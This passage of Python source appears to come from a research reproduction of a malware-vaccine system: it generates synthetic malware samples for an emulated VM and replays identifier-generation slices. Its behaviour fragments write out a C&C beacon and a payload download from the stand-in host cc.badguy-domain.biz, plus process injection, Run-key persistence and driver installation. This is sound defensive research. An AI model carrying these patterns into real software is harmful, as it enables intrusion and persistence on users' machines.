    "virus":      {"beacon": 0.30, "inject": 0.20, "persist": 0.70, "kernel": 0.20,
                   "download": 0.10, "adware_window": 0.00},
}

#: Probability a sample performs *common* (non-exclusive) resource checks —
#: these make most call occurrences taint-influential (paper: 80.3%) without
#: yielding vaccines (exclusiveness filters them).
COMMON_CHECK_PROB = 0.85

#: Probability the sample uses an entirely random (discarded) identifier.
RANDOM_NAME_PROB = 0.18

#: Probability the sample is inert for vaccine purposes: packed/broken/plain
#: samples with no resource-sensitive condition checks at all.  Together with
#: exclusiveness filtering this reproduces the paper's low sample -> vaccine
#: yield (210 of 1,716).
INERT_PROB = 0.45

#: Probability of an algorithm-deterministic marker (computer-name-derived,
#: Conficker-style) and of a partial-static marker (random field in a static
#: skeleton).  These feed Table IV's 163 non-static identifiers.
ALGO_MARKER_PROB = 0.10
PARTIAL_MARKER_PROB = 0.12

#: Probability of payload-gating side constraints (Type-II / Type-III
#: vaccine sources).
C2_CONFIG_PROB = 0.12
GATED_PERSIST_PROB = 0.30


@dataclass
class GeneratorConfig:
    size: int = 200
    seed: int = 7
    #: Scale factor on marker probabilities (ablation / tuning hook).
    marker_scale: float = 0.5


@dataclass
class GeneratedSample:
    program: Program
    category: str
    #: Which exclusive markers were planted (ground truth for tests).
    markers: List[str] = field(default_factory=list)


def _choose_category(rng: random.Random) -> str:
    roll = rng.random()
    acc = 0.0
    for category, weight in CATEGORY_WEIGHTS.items():
        acc += weight
        if roll <= acc:
            return category
    return "backdoor"


def _rand_name(rng: random.Random, prefix: str, length: int = 6) -> str:
    alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
    body = "".join(rng.choice(alphabet) for _ in range(length))
    return f"{prefix}{body}"


def generate_sample(index: int, config: GeneratorConfig) -> GeneratedSample:
    rng = random.Random((config.seed << 20) ^ index)
    category = _choose_category(rng)
    markers = MARKER_PROFILES[category]
    payloads = PAYLOAD_PROFILES[category]

    b = AsmBuilder(f"gen_{category}_{index:04d}")
    planted: List[str] = []
    infected = b.unique("infected")
    used_infected = False

    def want(prob: float) -> bool:
        return rng.random() < prob

    inert = want(INERT_PROB)

    # --- exclusive infection markers (vaccine candidates) ----------------
    if not inert and want(markers["mutex"] * config.marker_scale):
        # Named-kernel-object markers come in several flavours in the wild;
        # all land in the mutex column of Figure 3.
        flavour = rng.choice(["mutex", "mutex", "semaphore", "filemapping"])
        name = _rand_name(rng, "mx_")
        if flavour == "mutex":
            frag_check_mutex_marker(b, name, infected)
            frag_create_mutex(b, name)
        elif flavour == "semaphore":
            label = b.string(name)
            b.call("OpenSemaphoreA", "0x1F0003", "0", label)
            b.emit("    test eax, eax", f"    jnz {infected}")
            b.call("CreateSemaphoreA", "0", "1", "1", label)
        else:
            label = b.string(name)
            b.call("OpenFileMappingA", "0xF001F", "0", label)
            b.emit("    test eax, eax", f"    jnz {infected}")
            b.call("CreateFileMappingA", "0", "0", "4", "0", "0", label)
        planted.append("mutex")
        used_infected = True
    if not inert and want(markers["registry"] * config.marker_scale):
        key = f"hklm\\software\\{_rand_name(rng, 'rk_')}"
        frag_check_registry_marker(b, key, infected)
        frag_create_registry_marker(b, key)
        planted.append("registry")
        used_infected = True
    if not inert and want(markers["file"] * config.marker_scale):
        path = f"%system32%\\{_rand_name(rng, 'fl_')}.exe"
        bail = b.unique("bail")
        frag_drop_file(b, path, bail, content="MZgen")
        skip = b.unique("L")
        b.emit(f"    jmp {skip}")
        b.label(bail)
        frag_exit(b, 1)
        b.label(skip)
        planted.append("file")
    if not inert and want(markers["window"] * config.marker_scale):
        cls = _rand_name(rng, "Wnd_")
        frag_check_window(b, cls, infected)
        frag_create_window(b, cls, title="gen")
        planted.append("window")
        used_infected = True
    if not inert and want(markers["library"] * config.marker_scale):
        dll = f"%system32%\\{_rand_name(rng, 'lib_')}.dll"
        skip = b.unique("L")
        frag_drop_and_load_library(b, dll, on_fail=skip)
        frag_inject_process(b, "svchost.exe")
        b.label(skip)
        planted.append("library")
    if not inert and want(markers["service"] * config.marker_scale):
        svc = _rand_name(rng, "svc_")
        frag_check_service(b, svc, infected)
        planted.append("service")
        used_infected = True
    if not inert and want(markers["process"] * config.marker_scale):
        proc = f"{_rand_name(rng, 'pr_')}.exe"
        name = b.string(proc)
        b.call("FindProcessA", name)
        b.emit("    test eax, eax", f"    jnz {infected}")
        planted.append("process")
        used_infected = True

    # --- algorithm-deterministic / partial-static markers -----------------
    if not inert and want(ALGO_MARKER_PROB):
        buf = b.buffer(96)
        frag_computer_name_hash(
            b, buf, fmt=f"{_rand_name(rng, 'G')}\\%s-%x",
            multiplier=rng.choice([31, 33, 37]), seed=rng.randrange(1, 0xFFFF),
        )
        frag_check_mutex_marker_reg(b, buf, infected)
        frag_create_mutex(b, buffer_label=buf)
        planted.append("algo_mutex")
        used_infected = True
    if not inert and want(PARTIAL_MARKER_PROB):
        buf = b.buffer(48)
        frag_partial_static_name(b, buf, prefix_fmt=f"{_rand_name(rng, 'ps')}-%x-lk")
        bail = b.unique("bail")
        frag_create_mutex(b, buffer_label=buf)
        b.emit("    test eax, eax", f"    jz {bail}")
        skip = b.unique("L")
        b.emit(f"    jmp {skip}")
        b.label(bail)
        frag_exit(b, 3)
        b.label(skip)
        planted.append("partial_mutex")

    # --- common, non-exclusive checks (influential but filtered) ---------
    if not inert and want(COMMON_CHECK_PROB):
        skip = b.unique("L")
        frag_load_library(b, rng.choice(["uxtheme.dll", "msvcrt.dll", "ws2_32.dll"]),
                          on_fail=skip)
        b.label(skip)
        present = b.unique("L")
        frag_check_file_marker(b, "c:\\windows\\system.ini", present)
        b.label(present)
    if want(RANDOM_NAME_PROB):
        buf = b.buffer(48)
        frag_random_name(b, buf, fmt="gm%x")
        frag_create_mutex(b, buffer_label=buf)

    # --- payload behaviours ------------------------------------------------
    # Working files: logs, staging copies, config reads (the bulk of the
    # file-operation mass in Figure 3).
    for _ in range(rng.randint(1, 3)):
        if want(0.75):
            path = f"%temp%\\{_rand_name(rng, 'wk_')}.log"
            skip = b.unique("L")
            frag_drop_file(b, path, skip, content="log" * rng.randint(1, 4))
            b.label(skip)
    if want(0.5):
        present = b.unique("L")
        frag_check_file_marker(b, "c:\\windows\\system.ini", present)
        b.label(present)
    if want(0.45):
        skip = b.unique("L")
        frag_read_config_file(b, "c:\\windows\\system.ini", skip)
        b.label(skip)

    gated_persist = not inert and want(GATED_PERSIST_PROB)
    if want(payloads["persist"]):
        if gated_persist:
            frag_gated_persistence_file(
                b, f"%system32%\\{_rand_name(rng, 'pf_')}.dat",
                _rand_name(rng, "run_"), "c:\\windows\\system32\\gen.exe",
            )
            planted.append("gated_persist")
        else:
            frag_persist_run_key(b, _rand_name(rng, "run_"), "c:\\windows\\system32\\gen.exe")
    if want(payloads["beacon"]):
        if not inert and want(C2_CONFIG_PROB):
            no_c2 = b.unique("L")
            frag_c2_config_key(
                b, f"hklm\\software\\{_rand_name(rng, 'cc_')}",
                "cc.badguy-domain.biz", no_c2,
            )
            frag_beacon(b, "cc.badguy-domain.biz", rounds=rng.randint(3, 6), payload="GEN")
            b.label(no_c2)
            planted.append("c2_config")
        else:
            frag_beacon(b, "cc.badguy-domain.biz", rounds=rng.randint(3, 6), payload="GEN")
    if want(payloads["inject"]):
        frag_inject_process(b, rng.choice(["explorer.exe", "svchost.exe"]))
    if want(payloads["kernel"]):
        frag_install_driver(b, _rand_name(rng, "drv_"), f"%system32%\\drivers\\{_rand_name(rng, 'k_')}.sys")
    if want(payloads["download"]):
        frag_download(b, "http://cc.badguy-domain.biz/pay.bin", f"%temp%\\{_rand_name(rng, 'dl_')}.exe")
    if want(payloads["adware_window"]):
        frag_create_window(b, _rand_name(rng, "Ad_"), title="buy now")

    b.emit("    halt")
    if used_infected:
        b.label(infected)
        frag_exit(b, 0)

    program = b.build(family="generated", category=category, index=index,
                      markers=list(planted))
    return GeneratedSample(program=program, category=category, markers=planted)


def generate_population(config: Optional[GeneratorConfig] = None) -> List[GeneratedSample]:
    config = config or GeneratorConfig()
    return [generate_sample(i, config) for i in range(config.size)]


def category_distribution(samples: List[GeneratedSample]) -> Dict[str, int]:
    counts: Dict[str, int] = {}
    for sample in samples:
        counts[sample.category] = counts.get(sample.category, 0) + 1
    return counts
