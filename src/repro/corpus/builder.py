"""Assembly builder DSL for the synthetic corpus.

Malware/benign samples are real guest programs assembled from reusable
behaviour fragments (infection-marker checks, droppers, persistence writers,
C&C beacons, process injection …).  The fragments emit the same API calling
sequences the paper observes in the wild, so the pipeline sees realistic
traces.
"""

from __future__ import annotations

import itertools
from typing import Dict, List, Optional

from ..vm.assembler import assemble
from ..vm.program import Program

GENERIC_READ = 0x80000000
GENERIC_WRITE = 0x40000000
CREATE_NEW = 1
CREATE_ALWAYS = 2
OPEN_EXISTING = 3
HKLM = 0x80000002
HKCU = 0x80000001
REG_SZ = 1
MUTEX_ALL_ACCESS = 0x1F0001
PROCESS_ALL_ACCESS = 0x1F0FFF


def asm_string(text: str) -> str:
    """Escape a Python string into an assembler string literal body."""
    return text.replace("\\", "\\\\").replace('"', '\\"')


class AsmBuilder:
    """Accumulates sections and emits an assembled :class:`Program`."""

    def __init__(self, name: str) -> None:
        self.name = name
        self._rdata: List[str] = []
        self._data: List[str] = []
        self._text: List[str] = []
        self._strings: Dict[str, str] = {}
        self._counter = itertools.count(1)
        self.metadata: Dict[str, object] = {}

    # -- data -----------------------------------------------------------------

    def unique(self, prefix: str) -> str:
        return f"{prefix}_{next(self._counter)}"

    def string(self, text: str, label: Optional[str] = None) -> str:
        """Intern a NUL-terminated string in ``.rdata``; returns its label."""
        if label is None:
            if text in self._strings:
                return self._strings[text]
            label = self.unique("str")
            self._strings[text] = label
        self._rdata.append(f'{label}: .asciz "{asm_string(text)}"')
        return label

    def buffer(self, size: int, label: Optional[str] = None) -> str:
        label = label or self.unique("buf")
        self._data.append(f"{label}: .space {size}")
        return label

    def dword(self, value: int = 0, label: Optional[str] = None) -> str:
        label = label or self.unique("var")
        self._data.append(f"{label}: .dword {value}")
        return label

    # -- code ------------------------------------------------------------------

    def emit(self, *lines: str) -> None:
        self._text.extend(lines)

    def label(self, name: Optional[str] = None) -> str:
        name = name or self.unique("L")
        self._text.append(f"{name}:")
        return name

    def comment(self, text: str) -> None:
        self._text.append(f"    ; {text}")

    def call(self, api: str, *args) -> None:
        """Push ``args`` right-to-left (stdcall) and call the API.

        Arguments are raw operand strings: labels, immediates, registers.
        """
        for arg in reversed(args):
            self.emit(f"    push {arg}")
        self.emit(f"    call @{api}")

    def call_cdecl(self, api: str, *args) -> None:
        for arg in reversed(args):
            self.emit(f"    push {arg}")
        self.emit(f"    call @{api}")
        if args:
            self.emit(f"    add esp, {4 * len(args)}")

    # -- assembly ---------------------------------------------------------------

    def source(self) -> str:
        parts = []
        if self._rdata:
            parts.append(".section .rdata")
            parts.extend(self._rdata)
        if self._data:
            parts.append(".section .data")
            parts.extend(self._data)
        parts.append(".section .text")
        parts.append("main:")
        parts.extend(self._text)
        return "\n".join(parts) + "\n"

    def build(self, **metadata) -> Program:
        program = assemble(self.source(), name=self.name)
        program.metadata.update(self.metadata)
        program.metadata.update(metadata)
        return program


# ---------------------------------------------------------------------------
# behaviour fragments
# ---------------------------------------------------------------------------

def frag_check_mutex_marker(b: AsmBuilder, mutex_name: str, on_infected: str) -> None:
    """OpenMutex infection check: jump to ``on_infected`` when marker exists."""
    name = b.string(mutex_name)
    b.comment(f"duplicate-infection check on mutex {mutex_name!r}")
    b.call("OpenMutexA", hex(MUTEX_ALL_ACCESS), "0", name)
    b.emit("    test eax, eax", f"    jnz {on_infected}")


def frag_check_mutex_marker_reg(b: AsmBuilder, name_reg_buffer: str, on_infected: str) -> None:
    """Same check but the name comes from a buffer (computed identifier)."""
    b.call("OpenMutexA", hex(MUTEX_ALL_ACCESS), "0", name_reg_buffer)
    b.emit("    test eax, eax", f"    jnz {on_infected}")


def frag_create_mutex(b: AsmBuilder, mutex_name: Optional[str] = None, buffer_label: Optional[str] = None) -> None:
    operand = buffer_label if buffer_label is not None else b.string(mutex_name)
    b.call("CreateMutexA", "0", "0", operand)


def frag_exit(b: AsmBuilder, code: int = 0) -> None:
    b.call("ExitProcess", str(code))


def frag_check_file_marker(b: AsmBuilder, path: str, on_present: str) -> None:
    name = b.string(path)
    b.comment(f"file existence check {path!r}")
    b.call("GetFileAttributesA", name)
    b.emit("    cmp eax, 0xFFFFFFFF", f"    jne {on_present}")


def frag_drop_file(
    b: AsmBuilder,
    path: str,
    on_fail: str,
    content: str = "MZpayload",
    handle_var: Optional[str] = None,
) -> str:
    """CreateFile(CREATE_NEW) + WriteFile; jumps to ``on_fail`` if the file
    already exists or access is denied (the Zeus sdra64.exe pattern)."""
    name = b.string(path)
    payload = b.string(content)
    written = b.buffer(4)
    hvar = handle_var or b.dword(0)
    b.comment(f"drop payload file {path!r}")
    b.call("CreateFileA", name, hex(GENERIC_WRITE), "0", "0", str(CREATE_NEW), "0", "0")
    b.emit("    cmp eax, 0xFFFFFFFF", f"    je {on_fail}")
    b.emit(f"    mov [{hvar}], eax")
    b.call("WriteFile", f"[{hvar}]", payload, str(len(content)), written, "0")
    b.emit("    test eax, eax", f"    jz {on_fail}")
    b.call("CloseHandle", f"[{hvar}]")
    return hvar


def frag_read_config_file(b: AsmBuilder, path: str, on_missing: str, out_buffer: Optional[str] = None) -> str:
    """Open + read a config file; branch when absent (targeted malware)."""
    name = b.string(path)
    out = out_buffer or b.buffer(64)
    read = b.buffer(4)
    hvar = b.dword(0)
    b.call("CreateFileA", name, hex(GENERIC_READ), "0", "0", str(OPEN_EXISTING), "0", "0")
    b.emit("    cmp eax, 0xFFFFFFFF", f"    je {on_missing}")
    b.emit(f"    mov [{hvar}], eax")
    b.call("ReadFile", f"[{hvar}]", out, "32", read, "0")
    b.call("CloseHandle", f"[{hvar}]")
    return out


def frag_persist_run_key(b: AsmBuilder, value_name: str, exe_path: str, on_fail: Optional[str] = None) -> None:
    """Write an autostart value under HKLM\\...\\Run (Type-III behaviour)."""
    subkey = b.string("software\\microsoft\\windows\\currentversion\\run")
    vname = b.string(value_name)
    vdata = b.string(exe_path)
    hkey = b.dword(0)
    b.comment(f"persistence via Run key value {value_name!r}")
    b.call("RegOpenKeyExA", hex(HKLM), subkey, "0", "0xF003F", hkey)
    skip = b.unique("L")
    b.emit("    test eax, eax", f"    jnz {skip}")
    b.call(
        "RegSetValueExA",
        f"[{hkey}]", vname, "0", str(REG_SZ), vdata, str(len(exe_path) + 1),
    )
    if on_fail is not None:
        b.emit("    test eax, eax", f"    jnz {on_fail}")
    b.call("RegCloseKey", f"[{hkey}]")
    b.label(skip)


def frag_check_registry_marker(b: AsmBuilder, key_path: str, on_present: str) -> None:
    """Infection marker as a registry key (Qakbot style)."""
    # Split "hklm\..." into hive + subkey.
    hive = HKLM if key_path.lower().startswith("hklm") else HKCU
    subkey = key_path.split("\\", 1)[1]
    label = b.string(subkey)
    hkey = b.dword(0)
    b.comment(f"registry marker check {key_path!r}")
    b.call("RegOpenKeyExA", hex(hive), label, "0", "0x20019", hkey)
    b.emit("    test eax, eax", f"    jz {on_present}")


def frag_create_registry_marker(b: AsmBuilder, key_path: str) -> None:
    hive = HKLM if key_path.lower().startswith("hklm") else HKCU
    subkey = key_path.split("\\", 1)[1]
    label = b.string(subkey)
    hkey = b.dword(0)
    b.call("RegCreateKeyExA", hex(hive), label, "0", "0xF003F", hkey)


def frag_beacon(b: AsmBuilder, host: str, port: int = 80, rounds: int = 4, payload: str = "PING") -> None:
    """C&C beacon loop: connect/send/recv ``rounds`` times (Type-II mass)."""
    hostname = b.string(host)
    msg = b.string(payload)
    recv_buf = b.buffer(64)
    sock = b.dword(0)
    b.comment(f"C&C beacon to {host}:{port}")
    b.emit(f"    mov edi, {rounds}")
    loop = b.label(b.unique("beacon"))
    b.call("socket", "2", "1", "6")
    b.emit(f"    mov [{sock}], eax")
    b.call("connect", f"[{sock}]", hostname, str(port))
    skip = b.unique("L")
    b.emit("    cmp eax, 0", f"    jne {skip}")
    b.call("send", f"[{sock}]", msg, str(len(payload)), "0")
    b.call("recv", f"[{sock}]", recv_buf, "32", "0")
    b.label(skip)
    b.call("closesocket", f"[{sock}]")
    b.emit("    dec edi", f"    jnz {loop}")


def frag_download(b: AsmBuilder, url: str, target_path: str) -> None:
    u = b.string(url)
    t = b.string(target_path)
    b.call("URLDownloadToFileA", "0", u, t)


def frag_inject_process(b: AsmBuilder, target: str, on_fail: Optional[str] = None) -> None:
    """Benign-process injection (Type-IV): Find/Open/Write/CreateRemoteThread."""
    name = b.string(target)
    payload = b.string("INJECT")
    hproc = b.dword(0)
    b.comment(f"code injection into {target!r}")
    b.call("FindProcessA", name)
    skip = b.unique("L")
    b.emit("    test eax, eax", f"    jz {on_fail or skip}")
    b.call("OpenProcess", hex(PROCESS_ALL_ACCESS), "0", "eax")
    b.emit("    test eax, eax", f"    jz {on_fail or skip}")
    b.emit(f"    mov [{hproc}], eax")
    b.call("VirtualAllocEx", f"[{hproc}]", "0", "0x1000", "0x3000", "0x40")
    b.call("WriteProcessMemory", f"[{hproc}]", "eax", payload, "6", "0")
    b.call("CreateRemoteThread", f"[{hproc}]", "0", "0", "0x7F000000", "0", "0", "0")
    b.label(skip)


def frag_install_driver(b: AsmBuilder, service_name: str, sys_path: str, on_fail: Optional[str] = None) -> None:
    """Kernel-driver install (Type-I): drop .sys + SCM registration."""
    scm = b.dword(0)
    svc = b.dword(0)
    name = b.string(service_name)
    path = b.string(sys_path)
    b.comment(f"kernel driver install {service_name!r} -> {sys_path!r}")
    fail = on_fail or b.unique("L")
    frag_drop_file(b, sys_path, fail, content="SYSDRIVERIMAGE")
    b.call("OpenSCManagerA", "0", "0", "0xF003F")
    b.emit("    test eax, eax", f"    jz {fail}")
    b.emit(f"    mov [{scm}], eax")
    b.call("CreateServiceA", f"[{scm}]", name, name, "1", "3", path)
    b.emit("    test eax, eax", f"    jz {fail}")
    b.emit(f"    mov [{svc}], eax")
    b.call("StartServiceA", f"[{svc}]", "0", "0")
    if on_fail is None:
        b.label(fail)


def frag_check_window(b: AsmBuilder, class_name: str, on_present: str) -> None:
    name = b.string(class_name)
    b.call("FindWindowA", name, "0")
    b.emit("    test eax, eax", f"    jnz {on_present}")


def frag_create_window(b: AsmBuilder, class_name: str, title: str = "ad") -> None:
    cls = b.string(class_name)
    ttl = b.string(title)
    b.call("CreateWindowExA", cls, ttl, "0")


def frag_load_library(b: AsmBuilder, dll: str, on_fail: Optional[str] = None) -> None:
    name = b.string(dll)
    b.call("LoadLibraryA", name)
    if on_fail is not None:
        b.emit("    test eax, eax", f"    jz {on_fail}")


def frag_check_service(b: AsmBuilder, service: str, on_present: str) -> None:
    scm = b.dword(0)
    name = b.string(service)
    b.call("OpenSCManagerA", "0", "0", "0xF003F")
    b.emit(f"    mov [{scm}], eax")
    b.call("OpenServiceA", f"[{scm}]", name, "0xF003F")
    b.emit("    test eax, eax", f"    jnz {on_present}")


def frag_computer_name_hash(
    b: AsmBuilder,
    out_buffer: str,
    fmt: str = "Global\\%s-%x",
    multiplier: int = 33,
    seed: int = 0x1505,
    mask: int = 0xFFFFFF,
) -> None:
    """Algorithm-deterministic identifier: djb2-style hash of the computer
    name formatted into ``out_buffer`` (the Conficker-style generator).

    Emits a data-dependent loop, so the extracted slice requires forced
    re-execution on hosts with different name lengths.
    """
    name_buf = b.buffer(64)
    fmt_label = b.string(fmt)
    b.comment("algorithm-deterministic name from computer name")
    b.call("GetComputerNameA", name_buf, "0")
    b.emit(
        "    xor esi, esi",
        f"    mov ebx, {hex(seed)}",
    )
    loop = b.label(b.unique("hash"))
    done = b.unique("hashdone")
    b.emit(
        "    xor eax, eax",
        f"    movb eax, [{name_buf}+esi]",
        "    test eax, eax",
        f"    jz {done}",
        f"    imul ebx, {multiplier}",
        "    add ebx, eax",
        "    inc esi",
        f"    jmp {loop}",
    )
    b.label(done)
    b.emit(f"    and ebx, {hex(mask)}")
    if "%s" in fmt:
        b.call_cdecl("wsprintfA", out_buffer, fmt_label, name_buf, "ebx")
    else:
        b.call_cdecl("wsprintfA", out_buffer, fmt_label, "ebx")


def frag_random_name(b: AsmBuilder, out_buffer: str, fmt: str = "tmp%x") -> None:
    """Non-deterministic identifier from GetTickCount."""
    fmt_label = b.string(fmt)
    b.call("GetTickCount")
    b.call_cdecl("wsprintfA", out_buffer, fmt_label, "eax")


def frag_partial_static_name(b: AsmBuilder, out_buffer: str, prefix_fmt: str = "WRM-%x-LOCK") -> None:
    """Partial-static identifier: static skeleton around a random field."""
    fmt_label = b.string(prefix_fmt)
    b.call("GetTickCount")
    b.emit("    and eax, 0xFFFF")
    b.call_cdecl("wsprintfA", out_buffer, fmt_label, "eax")


def frag_drop_and_load_library(b: AsmBuilder, dll_path: str, on_fail: str) -> None:
    """Drop a component DLL then load it; failure of either skips the gated
    payload (creates library-type vaccine candidates)."""
    frag_drop_file(b, dll_path, on_fail, content="MZdll")
    name = b.string(dll_path)
    b.call("LoadLibraryA", name)
    b.emit("    test eax, eax", f"    jz {on_fail}")


def frag_c2_config_key(b: AsmBuilder, key_path: str, host: str, on_fail: str) -> str:
    """Write then read back a C&C config registry value; a failed read-back
    skips the network payload (enforce-failure -> Type II vaccine)."""
    hive = HKLM if key_path.lower().startswith("hklm") else HKCU
    subkey = key_path.split("\\", 1)[1]
    klabel = b.string(subkey)
    vname = b.string("srv")
    vdata = b.string(host)
    hkey = b.dword(0)
    out = b.buffer(64)
    sz = b.buffer(4)
    b.comment(f"C&C config key {key_path!r}")
    b.call("RegCreateKeyExA", hex(hive), klabel, "0", "0xF003F", hkey)
    b.emit("    test eax, eax", f"    jnz {on_fail}")
    b.call("RegSetValueExA", f"[{hkey}]", vname, "0", str(REG_SZ), vdata, str(len(host) + 1))
    b.call("RegQueryValueExA", f"[{hkey}]", vname, "0", "0", out, sz)
    b.emit("    test eax, eax", f"    jnz {on_fail}")
    return out


def frag_gated_persistence_file(b: AsmBuilder, flag_path: str, value_name: str, exe_path: str) -> None:
    """Drop a flag file; only when it succeeds write the Run-key autostart.
    Locking the flag path kills persistence only (Type III vaccine)."""
    skip = b.unique("L")
    frag_drop_file(b, flag_path, skip, content="flag")
    frag_persist_run_key(b, value_name, exe_path)
    b.label(skip)
