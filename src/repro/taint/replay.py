"""Slice replay: regenerate an algorithm-deterministic identifier on a
(possibly different) target machine.

Strategy selection is automatic:

* **Per-instance replay** (loop-free slices): execute each recorded instance
  in order, pinning ``esp``/``ebp`` to the recorded values and re-dispatching
  API pseudo-steps against the *target* environment — ``GetComputerNameA``
  yields the target's name, the formatting instructions rebuild the
  identifier from it.
* **Forced re-execution** (slices with loops, e.g. hashing a variable-length
  computer name): the whole original program re-runs in a sandbox on the
  target, with every resource-API call site forced to its outcome from the
  analysis run (so an already-injected vaccine or other environment deltas
  cannot divert the path), and stops the moment the target call site consumes
  the regenerated identifier.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Tuple

from ..tracing.events import ApiCallEvent
from ..vm.assembler import assemble
from ..vm.cpu import CPU, ExitStatus
from ..vm.program import Program
from ..winenv.acl import IntegrityLevel
from ..winenv.environment import SystemEnvironment
from .slicing import VaccineSlice


class SliceReplayError(Exception):
    """Replay could not complete (missing instruction, guest fault …)."""


def replay_slice(
    slice_: VaccineSlice,
    environment: SystemEnvironment,
    max_steps: Optional[int] = None,
    program: Optional[Program] = None,
) -> str:
    """Execute the slice against ``environment``; return the regenerated
    identifier string.

    ``program``, when given and textually identical to the slice's recorded
    source, is executed directly instead of re-assembling — replay-validation
    during analysis then reuses the sample's decode and superblock caches
    (a target-machine daemon has only the source and still assembles)."""
    if slice_.requires_reexecution and slice_.target_api:
        return _forced_reexecution(slice_, environment, max_steps, program)
    return _replay_instances(slice_, environment, max_steps, program)


def _slice_program(slice_: VaccineSlice, program: Optional[Program], suffix: str) -> Program:
    if program is not None and program.source == slice_.program_source:
        return program
    return assemble(slice_.program_source, name=f"{slice_.program_name}-{suffix}")


# ---------------------------------------------------------------------------
# strategy 1: straight-line per-instance replay
# ---------------------------------------------------------------------------

def _replay_instances(
    slice_: VaccineSlice,
    environment: SystemEnvironment,
    max_steps: Optional[int],
    original: Optional[Program] = None,
) -> str:
    from ..winapi.dispatcher import Dispatcher

    program = _slice_program(slice_, original, "slice")
    process = environment.spawn_process("vaccine-slice.exe", integrity=IntegrityLevel.SYSTEM)
    dispatcher = Dispatcher(environment, process)
    cpu = CPU(
        program,
        environment=environment,
        process=process,
        dispatcher=dispatcher,
        record_instructions=False,
    )

    budget = max_steps if max_steps is not None else max(10_000, 4 * len(slice_.steps))
    if len(slice_.steps) > budget:
        raise SliceReplayError("replay budget exhausted")
    for i, step in enumerate(slice_.steps):
        cpu.regs["esp"] = step.esp
        cpu.regs["ebp"] = step.ebp
        cpu.pc = step.pc
        cpu._uses, cpu._defs = [], []
        if step.api is not None:
            dispatcher.invoke(cpu, step.api, caller_pc=step.pc, seq=i)
            continue
        instr = program.instruction_at(step.pc)
        if instr is None:
            raise SliceReplayError(f"no instruction at pc 0x{step.pc:08x}")
        try:
            cpu._execute(instr, step.pc, i)
        except Exception as exc:  # MemoryFault / CpuFault
            raise SliceReplayError(f"replay fault at 0x{step.pc:08x}: {exc}") from exc

    try:
        text, _ = cpu.memory.read_cstring(slice_.output_addr)
    except Exception as exc:  # MemoryFault: bad/unset output address
        raise SliceReplayError(f"cannot read slice output: {exc}") from exc
    if not text:
        raise SliceReplayError("slice produced an empty identifier")
    return text


# ---------------------------------------------------------------------------
# strategy 2: forced re-execution up to the consuming call site
# ---------------------------------------------------------------------------

class _IdentifierCaptured(Exception):
    def __init__(self, identifier: str) -> None:
        super().__init__(identifier)
        self.identifier = identifier


class _ForcedPathInterceptor:
    """Pins resource-API outcomes and captures the target identifier."""

    def __init__(self, slice_: VaccineSlice) -> None:
        from ..winapi.dispatcher import Interception

        self._interception = Interception
        self.target = (slice_.target_api, slice_.target_caller_pc)
        self.target_occurrence = slice_.target_occurrence
        self._target_seen = 0
        self._outcomes: Dict[Tuple[str, int], List[bool]] = {}
        for pin in slice_.pinned_outcomes:
            self._outcomes.setdefault((pin.api, pin.caller_pc), []).append(pin.success)
        self._cursor: Dict[Tuple[str, int], int] = {}

    def intercept(self, apidef, event: ApiCallEvent):
        key = (event.api, event.caller_pc)
        if key == self.target:
            if self._target_seen == self.target_occurrence:
                raise _IdentifierCaptured(event.identifier or "")
            self._target_seen += 1
        if apidef.resource_type is None:
            return self._interception.PASS
        outcomes = self._outcomes.get(key)
        if not outcomes:
            return self._interception.PASS
        i = self._cursor.get(key, 0)
        self._cursor[key] = i + 1
        success = outcomes[min(i, len(outcomes) - 1)]
        return self._interception.FORCE_SUCCESS if success else self._interception.FORCE_FAIL


def _forced_reexecution(
    slice_: VaccineSlice,
    environment: SystemEnvironment,
    max_steps: Optional[int],
    original: Optional[Program] = None,
) -> str:
    from ..winapi.dispatcher import Dispatcher

    program = _slice_program(slice_, original, "reexec")
    sandbox = environment.clone()
    sandbox.global_interceptors = []  # a deployed daemon must not see this run
    process = sandbox.spawn_process("vaccine-reexec.exe", integrity=IntegrityLevel.LOW)
    interceptor = _ForcedPathInterceptor(slice_)
    dispatcher = Dispatcher(sandbox, process, interceptors=[interceptor])
    cpu = CPU(
        program,
        environment=sandbox,
        process=process,
        dispatcher=dispatcher,
        max_steps=max_steps if max_steps is not None else 500_000,
        record_instructions=False,
    )
    try:
        cpu.run()
    except _IdentifierCaptured as captured:
        if not captured.identifier:
            raise SliceReplayError("target call site carried no identifier")
        return captured.identifier
    raise SliceReplayError(
        f"re-execution never reached {slice_.target_api}@0x{slice_.target_caller_pc:x} "
        f"(exit: {cpu.status.value})"
    )
