"""Taint model and offline analyses (backward tracking, slicing, replay)."""

from .labels import (
    EMPTY,
    TagSet,
    TaintClass,
    TaintTag,
    classes_of,
    has_class,
    has_resource_taint,
    union,
)

__all__ = [
    "EMPTY",
    "TagSet",
    "TaintClass",
    "TaintTag",
    "classes_of",
    "has_class",
    "has_resource_taint",
    "union",
]
