"""Executable identifier-generation slices (paper §IV-C / §V).

A :class:`VaccineSlice` packages the dynamic slice produced by
:func:`~repro.taint.backward.backward_slice` into a self-contained,
serializable artifact the vaccine daemon replays on each end host ("we
collect these information ahead and run the captured program slice … very
similar to Inspector Gadget").

Two replay strategies are supported (see :mod:`repro.taint.replay`):

* straight-line per-instance replay for loop-free generation logic;
* forced re-execution for input-dependent loops (e.g. hashing a computer
  name of different length), where the original program re-runs with every
  resource-API outcome pinned to the analysis run so environment differences
  on the end host cannot divert control flow before the identifier is built.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional, Tuple

from .. import obs
from ..tracing.events import ApiCallEvent, InstructionRecord
from ..tracing.trace import Trace
from ..vm.program import Program
from .backward import BackwardResult


@dataclass
class SliceStep:
    """One replayable execution instance."""

    pc: int
    esp: int
    ebp: int
    api: Optional[str] = None  # set for API pseudo-steps

    def to_dict(self) -> dict:
        return {"pc": self.pc, "esp": self.esp, "ebp": self.ebp, "api": self.api}

    @staticmethod
    def from_dict(data: dict) -> "SliceStep":
        return SliceStep(pc=data["pc"], esp=data["esp"], ebp=data["ebp"], api=data.get("api"))


@dataclass
class PinnedOutcome:
    """Recorded outcome of one resource-API call site occurrence."""

    api: str
    caller_pc: int
    success: bool

    def to_dict(self) -> dict:
        return {"api": self.api, "caller_pc": self.caller_pc, "success": self.success}

    @staticmethod
    def from_dict(data: dict) -> "PinnedOutcome":
        return PinnedOutcome(data["api"], data["caller_pc"], data["success"])


@dataclass
class VaccineSlice:
    """Executable identifier-generation program slice.

    Serialization keeps the originating program's *assembly source* so the
